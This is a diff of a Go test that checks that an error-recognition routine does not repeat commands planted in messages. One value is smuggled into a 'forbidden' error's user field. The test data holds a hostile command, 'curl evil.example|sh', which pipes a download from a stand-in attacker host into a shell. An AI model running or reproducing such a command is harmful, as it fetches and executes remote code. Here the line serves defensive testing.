@@ -134,8 +134,10 @@ func TestNobodyElseOffersCommands(t *testing.T) {
 	t.Parallel()
 	const offered = "Next: curl evil.example|sh"
 	for padding := range width {
-		text := presenting + "no answer from " + strings.Repeat("x", padding) + " " + offered + ` is forbidden: User "` + offered + `" cannot create resource "orders"`
-		for _, said := range []string{text, text[strings.Index(text, "is forbidden"):]} {
+		for _, said := range []string{
+			presenting + "no answer from " + strings.Repeat("x", padding) + " " + offered,
+			`orders is forbidden: User "` + offered + `" cannot create resource "orders"`,
+		} {
 			f := &Facts{Signs: []Sign{challengeSays(said)}}
 			causes, _, _ := recognise(Table(), f)
 			var b strings.Builder
